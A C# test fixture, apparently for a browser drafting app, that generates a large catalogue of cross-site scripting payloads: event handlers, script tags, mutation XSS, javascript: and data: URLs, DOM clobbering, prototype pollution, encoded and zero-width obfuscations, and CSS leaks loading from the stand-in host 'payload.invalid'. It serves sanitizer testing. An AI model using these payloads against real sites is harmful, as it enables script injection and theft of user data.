namespace Drafting.Browser.Tests;

/// <summary>
/// Markup that would run a script, ask a foreign host for something or take names away from the page, if anybody made markup of it. Made from families: what
/// carries the script × how it is written. Each calls <see cref="Marker"/> or asks <see cref="Host"/>, with its number.
/// </summary>
internal static class ScriptPayloads
{
    /// <summary>The function of the window that must never be called.</summary>
    public const string Marker = "ran";

    /// <summary>A host that is nowhere, and must never be asked.</summary>
    public const string Host = "payload.invalid";

    private const string Code = "CODE";
    private const string Address = "ADDRESS";

    /// <summary>All of them, each once, numbered from 0.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Templates().Distinct(StringComparer.Ordinal).Select((template, number) => template
            .Replace(Code, $"{Marker}({number})", StringComparison.Ordinal)
            .Replace(Address, $"https://{Host}/{number}", StringComparison.Ordinal)),
    ];

    private static IEnumerable<string> Templates() =>
        [.. Handlers(), .. Scripts(), .. Mutations(), .. Links(), .. Frames(), .. Clobbering(), .. Prototypes(), .. Entities(), .. Directions(), .. Styles(), .. Expressions()];

    private static IEnumerable<string> Handlers() =>
        from element in (string[])
        [
            "img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "details open ontoggle", "video src=x onerror", "audio src=x onerror",
            "video><source onerror", "marquee onstart", "object data=x onerror", "iframe onload", "style onload", "svg><animate onbegin", "p contenteditable autofocus onfocus", "link rel=stylesheet href=x onerror", "script src=x onerror",
        ]
        from written in (string[])["<@=CODE>", "<@=\"CODE\">", "<@='CODE'>", "<@\n=\n\"CODE\"\n>", "<@=CODE//", "<@=\"javascript:CODE\">", "\"><@=CODE>", "</p></div><@=CODE x='"]
        select written.Replace("@", element, StringComparison.Ordinal);

    private static IEnumerable<string> Scripts() =>
    [
        "<script>CODE</script>", "<ScRiPt>CODE</sCrIpT>", "<script/x>CODE</script>", "<script src=ADDRESS></script>", "<script type=module>CODE</script>", "<scr<script>ipt>CODE</scr</script>ipt>", "</script><script>CODE</script>",
        "<svg><script>CODE</script></svg>", "<svg><script href=ADDRESS /></svg>", "<math><script>CODE</script></math>", "<script>/*</script><script>*/CODE</script>", "<<script>CODE//<</script>", "<script\u00a0>CODE</script>", "<script>CODE",
        "<script type=importmap>{\"imports\":{\"react\":\"ADDRESS\"}}</script>", "<link rel=modulepreload href=ADDRESS>", "<noscript><script>CODE</script></noscript>", "<?xml-stylesheet href='javascript:CODE'?><script>CODE</script>",
    ];

    /// <summary>What is harmless as it is parsed first, and not any more when it was written out and parsed again.</summary>
    private static IEnumerable<string> Mutations() =>
        from around in (string[])
        [
            "<noscript><p title=\"</noscript>@\">", "<style><!--</style>@-->", "<svg></p><style><a id=\"</style>@\">", "<math><mtext><table><mglyph><style><!--</style>@", "<math><mtext><table><mglyph><style><math>@",
            "<form><math><mtext></form><form><mglyph><style></math>@", "<template>@</template>", "<template><style></template>@</style>", "<textarea></textarea>@", "<title></title>@", "<xmp></xmp>@", "<noembed></noembed>@", "<noframes></noframes>@", "<iframe></iframe>@",
            "<svg><![CDATA[</svg>@]]>", "<![CDATA[>@]]>", "<!-->@-->", "<!--!>@", "<!-- --!>@", "<svg><title><style>@</style></title>", "<svg><desc>@", "<svg><foreignObject>@", "<math><annotation-xml encoding=\"text/html\">@", "<select><template>@", "<table><caption>@",
            "<svg><style>&lt;/style>@", "<a title=\"--&gt;@\">", "<p title='\"</p>@'>", "<plaintext>@", "<svg><p><style><!--</style>@",
        ]
        from inner in (string[])["<img src=x onerror=CODE>", "<svg onload=CODE>", "<iframe srcdoc='<script>parent.CODE</script>'></iframe>"]
        select around.Replace("@", inner, StringComparison.Ordinal);

    private static IEnumerable<string> Links() =>
        from carrier in (string[])
        [
            "<a href=\"@\">x</a>", "<iframe src=\"@\"></iframe>", "<object data=\"@\"></object>", "<embed src=\"@\">", "<form action=\"@\"><button autofocus>x</button></form>", "<button form=f formaction=\"@\">x</button>", "<area href=\"@\">", "<base href=\"@\">",
            "<meta http-equiv=refresh content=\"0;url=@\">", "<svg><a xlink:href=\"@\"><text>x</text></a></svg>", "<svg><use href=\"@\"></use></svg>", "<math href=\"@\">x</math>", "<link rel=stylesheet href=\"@\">", "<img src=\"@\">",
        ]
        from scheme in (string[])["javascript:CODE", "JaVaScRiPt:CODE", "java\tscript:CODE", "&#106;avascript&colon;CODE", " \u0001javascript:CODE", "data:text/html,<script>CODE</script>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CODE'/>", "vbscript:CODE", "ADDRESS"]
        select carrier.Replace("@", scheme, StringComparison.Ordinal);

    private static IEnumerable<string> Frames() =>
    [
        "<iframe srcdoc=\"<script>parent.CODE</script>\"></iframe>", "<iframe srcdoc='&lt;script&gt;parent.CODE&lt;/script&gt;'></iframe>", "<iframe srcdoc='<img src=x onerror=parent.CODE>' sandbox='allow-scripts allow-same-origin'></iframe>",
        "<iframe src=ADDRESS></iframe>", "<frameset><frame src=ADDRESS></frameset>", "<portal src=ADDRESS></portal>",
    ];

    private static IEnumerable<string> Clobbering() =>
        from name in (string[])["document", "cookie", "getElementById", "body", "head", "location", "defaultView", "attributes", "parentNode", "childNodes", "nodeName", "trustedTypes", "app", "drafting", "fetch"]
        from element in (string[])["<form name=@><input name=@ value=x></form>", "<a id=@></a><a id=@ name=x href=ADDRESS>x</a>", "<img name=@ src=ADDRESS>"]
        select element.Replace("@", name, StringComparison.Ordinal);

    private static IEnumerable<string> Prototypes() =>
        from name in (string[])["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineSetter__"]
        from written in (string[])["@", "{\"@\":{\"innerHTML\":\"<img src=x onerror=CODE>\"}}", "<p data-@=x onclick=CODE autofocus tabindex=0 onfocus=CODE>"]
        select written.Replace("@", name, StringComparison.Ordinal);

    private static IEnumerable<string> Entities() =>
    [
        "&lt;img src=x onerror=CODE&gt;", "&#60;img src=x onerror=CODE&#62;", "&#x3c;img src=x onerror=CODE&#x3e;", "&amp;lt;img src=x onerror=CODE&amp;gt;", "\\u003cimg src=x onerror=CODE\\u003e", "\\x3cimg src=x onerror=CODE\\x3e", "%3Cimg%20src=x%20onerror=CODE%3E",
        "&lt&#x69;mg src=x onerror=CODE&gt", "＜img src=x onerror=CODE＞", "‹img src=x onerror=CODE›", "<im&#103; src=x onerror=CODE>", "+ADw-img src=x onerror=CODE+AD4-", "<img src=x onerror=&#x63;CODE>", "<img src=x &#111;nerror=CODE>",
    ];

    private static IEnumerable<string> Directions() =>
        from mark in (string[])["\u200e", "\u200f", "\u061c", "\u200b", "\u200d", "\ufeff"]
        from written in (string[])["<@img src=x onerror=CODE>", "<img src=x on@error=CODE>", "@<img src=x onerror=CODE>@", "<a href=\"java@script:CODE\">x</a>"]
        select written.Replace("@", mark, StringComparison.Ordinal);

    private static IEnumerable<string> Styles() =>
    [
        "<style>@import 'ADDRESS'</style>", "<style>*{background:url(ADDRESS)}</style>", "<p style=\"background:url(ADDRESS)\">x</p>", "<p style=\"width:expression(CODE)\">x</p>", "<p style=\"behavior:url(ADDRESS)\">x</p>", "<p style=\"position:fixed;inset:0;z-index:9999\">x</p>",
        "<link rel=stylesheet href=ADDRESS>", "<style>@font-face{font-family:x;src:url(ADDRESS)}*{font-family:x}</style>", "<svg><style>*{fill:url(ADDRESS)}</style></svg>", "<p style=\"list-style-image:image-set('ADDRESS' 1x)\">x</p>", "<style>input[value^=a]{background:url(ADDRESS)}</style>",
    ];

    private static IEnumerable<string> Expressions() =>
        ["${CODE}", "{{CODE}}", "{{constructor.constructor('CODE')()}}", "<%= CODE %>", "#{CODE}", "[[CODE]]", "');CODE;//", "\";CODE;//", "`;CODE;`", "*/CODE/*", "]]>CODE<![CDATA[", "--></script><script>CODE</script>"];
}
